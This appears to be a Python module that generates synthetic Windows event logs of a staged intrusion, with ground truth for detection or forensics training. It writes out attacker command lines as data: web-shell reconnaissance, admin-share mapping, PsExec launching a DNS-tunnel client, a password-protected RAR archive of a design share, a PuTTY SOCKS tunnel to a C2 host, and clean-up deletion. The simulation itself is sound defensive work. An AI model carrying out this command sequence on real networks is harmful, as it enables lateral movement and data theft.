"""The intrusion's Windows events: the web shell's commands under the IIS worker, Remote Desktop
from the actor's VPN exit, ``net use`` of the file server's ``C$`` and ``ADMIN$`` (and the file
server's side of it), PsExec and its service, the tunnelling client, the password-protected
archive by the renamed ``rar.exe``, and next day's PuTTY session and clean-up. Each event is
tagged with the ground-truth item it is evidence of."""

from __future__ import annotations

import random
from datetime import datetime, timedelta

from seawall.demo.hostlog import CMD, POOL_USER, WEBSHELL_DIR, HostLog
from seawall.demo.logons import (
    Logon,
    kerberos_service,
    kerberos_tgt,
    logoff,
    logon,
    rdp_authenticated,
    rdp_session,
    service_installed,
    share_access,
)
from seawall.demo.processes import EXPLORER, Proc
from seawall.demo.scenario import DOMAIN, Scenario

RECON = (
    ("C:\\Windows\\System32\\whoami.exe", "whoami"),
    ("C:\\Windows\\System32\\ipconfig.exe", "ipconfig /all"),
    ("C:\\Windows\\System32\\net.exe", "net user /domain"),
    ("C:\\Windows\\System32\\net.exe", 'net group "domain admins" /domain'),
    ("C:\\Windows\\System32\\nltest.exe", "nltest /dclist:tidewater"),
    ("C:\\Windows\\System32\\net.exe", "net view \\\\fs01"),
    ("C:\\Windows\\System32\\tasklist.exe", "tasklist /v"),
    ("C:\\Windows\\System32\\NETSTAT.EXE", "netstat -ano"),
    ("C:\\Windows\\System32\\systeminfo.exe", "systeminfo"),
)


def _webshell_recon(web: HostLog, worker: Proc, rng: random.Random) -> None:
    """China Chopper runs each command as ``cmd /c cd /d "<dir>"&<command>&echo [S]&cd&echo
    [E]`` from the IIS worker."""
    when = web.scenario.times["recon_start"]
    item = "webshell-recon"
    for image, command in RECON:
        line = f'cmd /c cd /d "{WEBSHELL_DIR}"&{command}&echo [S]&cd&echo [E]'
        shell = web.procs.start(
            when, CMD, line, user=POOL_USER, parent=worker, cwd=WEBSHELL_DIR, item=item
        )
        child = web.procs.start(
            when + timedelta(milliseconds=90),
            image,
            command,
            user=POOL_USER,
            parent=shell,
            cwd=WEBSHELL_DIR,
            item=item,
        )
        if image.endswith("net.exe") and "/domain" in command:
            web.procs.start(
                when + timedelta(milliseconds=130),
                "C:\\Windows\\System32\\net1.exe",
                command.replace("net ", "C:\\Windows\\system32\\net1 ", 1),
                user=POOL_USER,
                parent=child,
                cwd=WEBSHELL_DIR,
            )
        when += timedelta(seconds=rng.randint(35, 150))


def attack(
    scenario: Scenario,
    web: HostLog,
    fs: HostLog,
    dc: HostLog,
    workers: list[tuple[datetime, Proc]],
    rng: random.Random,
) -> None:
    times = scenario.times
    worker = [proc for start, proc in workers if start <= times["recon_start"]][-1]
    _webshell_recon(web, worker, rng)
    victim = scenario.accounts["d.tan"]
    exit_ip = scenario.infra.actor_vpn_exit
    qualified = victim.qualified
    # Remote Desktop from the actor's VPN exit: NLA's network logon, then the session.
    t = times["rdp_logon"]
    item = "rdp-from-vpn-exit"
    nla = web.logon_id()
    logon(
        web.log,
        t - timedelta(seconds=3),
        Logon(victim, 3, exit_ip, "DESKTOP-7H2K9QF", "NTLM"),
        nla,
        item=item,
    )
    logoff(web.log, t - timedelta(seconds=2), victim, nla, 3)
    rdp_authenticated(web.log, t - timedelta(seconds=1), victim, exit_ip, item=item)
    session = web.logon_id()
    logon(web.log, t, Logon(victim, 10, exit_ip, "WEB01", "Negotiate"), session, item=item)
    rdp_session(web.log, t + timedelta(seconds=2), victim, exit_ip, 3, item=item)
    kerberos_tgt(dc.log, t + timedelta(seconds=1), victim, web.log.host.ip)
    lid = hex(session)
    profile = f"C:\\Users\\{victim.name}\\"
    shell = web.procs.desktop(
        t + timedelta(seconds=4), t + timedelta(seconds=6), user=qualified, logon_id=lid, session=3
    )
    cmd = web.procs.start(
        t + timedelta(minutes=11),
        CMD,
        '"C:\\Windows\\system32\\cmd.exe"',
        user=qualified,
        parent=shell,
        logon_id=lid,
        session=3,
        cwd=profile,
    )
    # Admin shares on the file server, from the client's side and the server's.
    t = times["share_mapping"]
    for offset, share in ((0, "C$"), (25, "ADMIN$")):
        web.procs.start(
            t + timedelta(seconds=offset),
            "C:\\Windows\\System32\\net.exe",
            f"net use \\\\fs01\\{share}",
            user=qualified,
            parent=cmd,
            logon_id=lid,
            session=3,
            cwd=profile,
            item="admin-share-client",
        )
    web_ip = web.log.host.ip
    kerberos_service(dc.log, t - timedelta(seconds=1), victim, web_ip, "FS01$")
    remote = fs.logon_id()
    logon(
        fs.log,
        t + timedelta(seconds=1),
        Logon(victim, 3, web_ip, "WEB01"),
        remote,
        item="admin-share-server",
    )
    me = (victim.sid, victim.name, DOMAIN)
    item = "admin-share-server"
    share_access(
        fs.log, t + timedelta(seconds=1), me, remote, web_ip, "C$", "\\??\\C:\\", item=item
    )
    share_access(
        fs.log,
        t + timedelta(seconds=26),
        me,
        remote,
        web_ip,
        "ADMIN$",
        "\\??\\C:\\Windows",
        item=item,
    )
    share_access(
        fs.log,
        t + timedelta(seconds=70),
        me,
        remote,
        web_ip,
        "ADMIN$",
        "\\??\\C:\\Windows",
        target="Temp\\wuauhelp.exe",
        item=item,
    )
    # PsExec: its service binary through ADMIN$, the service, the tunnelling client.
    t = times["psexec"]
    psexec = web.procs.start(
        t,
        "C:\\Users\\Public\\PsExec64.exe",
        "C:\\Users\\Public\\PsExec64.exe \\\\fs01 -accepteula -s -d C:\\Windows\\Temp\\wuauhelp.exe"
        " --dns domain=t.tidevvater.example,secret=6b1d9f0a",
        user=qualified,
        parent=cmd,
        logon_id=lid,
        session=3,
        cwd=profile,
    )
    del psexec
    share_access(
        fs.log,
        t + timedelta(seconds=1),
        me,
        remote,
        web_ip,
        "ADMIN$",
        "\\??\\C:\\Windows",
        target="PSEXESVC.exe",
        item=item,
    )
    share_access(fs.log, t + timedelta(seconds=2), me, remote, web_ip, "IPC$", "", target="svcctl")
    service_installed(
        fs.log,
        t + timedelta(seconds=2),
        "PSEXESVC",
        "%SystemRoot%\\PSEXESVC.exe",
        victim,
        item="psexec-service",
    )
    services = fs.services
    svc = fs.procs.start(
        t + timedelta(seconds=3),
        "C:\\Windows\\PSEXESVC.exe",
        "C:\\Windows\\PSEXESVC.exe",
        user="TIDEWATER\\FS01$",
        parent=services,
        integrity="System",
        item="psexec-service",
    )
    fs.procs.start(
        t + timedelta(seconds=4),
        "C:\\Windows\\Temp\\wuauhelp.exe",
        "C:\\Windows\\Temp\\wuauhelp.exe --dns domain=t.tidevvater.example,secret=6b1d9f0a",
        user="TIDEWATER\\FS01$",
        parent=svc,
        integrity="System",
        item="dns-tunnel",
    )
    # The archive of the design share, with a header password, by the renamed rar.exe.
    t = times["archive"]
    share_access(
        fs.log,
        t + timedelta(seconds=1),
        me,
        remote,
        web_ip,
        "C$",
        "\\??\\C:\\",
        target="Shares\\Projects\\Hull-Design",
        item=item,
    )
    web.procs.start(
        t,
        "C:\\ProgramData\\Microsoft\\Windows\\Caches\\msadcs.exe",
        "C:\\ProgramData\\Microsoft\\Windows\\Caches\\msadcs.exe a -r -v2g -hpW1nterSea!24 -m5"
        " C:\\ProgramData\\Microsoft\\Windows\\Caches\\cab_8812.rar"
        " \\\\fs01\\c$\\Shares\\Projects\\Hull-Design",
        user=qualified,
        parent=cmd,
        logon_id=lid,
        session=3,
        cwd=profile,
        item="archive-password",
    )
    logoff(fs.log, t + timedelta(hours=2, minutes=14), victim, remote, 3)
    logoff(web.log, t + timedelta(hours=2, minutes=30), victim, session, 10)
    # Next day: the PuTTY tunnel carries the archives out; then they are deleted.
    t = times["exfil_start"] - timedelta(minutes=3)
    rdp_authenticated(web.log, t - timedelta(seconds=1), victim, exit_ip, item="rdp-from-vpn-exit")
    again = web.logon_id()
    logon(
        web.log,
        t,
        Logon(victim, 10, exit_ip, "WEB01", "Negotiate"),
        again,
        item="rdp-from-vpn-exit",
    )
    rdp_session(web.log, t + timedelta(seconds=2), victim, exit_ip, 3)
    lid = hex(again)
    shell = web.procs.start(
        t + timedelta(seconds=6),
        EXPLORER,
        EXPLORER,
        user=qualified,
        parent=None,
        logon_id=lid,
        session=3,
        integrity="Medium",
    )
    infra = scenario.infra
    web.procs.start(
        times["exfil_start"],
        "C:\\Users\\Public\\putty.exe",
        f"C:\\Users\\Public\\putty.exe -ssh -P 443 -l sup -pw ******** -N -D 1080 {infra.c2_ip}",
        user=qualified,
        parent=shell,
        logon_id=lid,
        session=3,
        cwd="C:\\Users\\Public\\",
        integrity="Medium",
        item="putty-public",
    )
    cleanup = web.procs.start(
        times["cleanup"],
        CMD,
        "cmd.exe /c del /q C:\\ProgramData\\Microsoft\\Windows\\Caches\\cab_8812.part*.rar",
        user=qualified,
        parent=shell,
        logon_id=lid,
        session=3,
        cwd=profile,
    )
    del cleanup
    logoff(web.log, times["cleanup"] + timedelta(minutes=4), victim, again, 10)
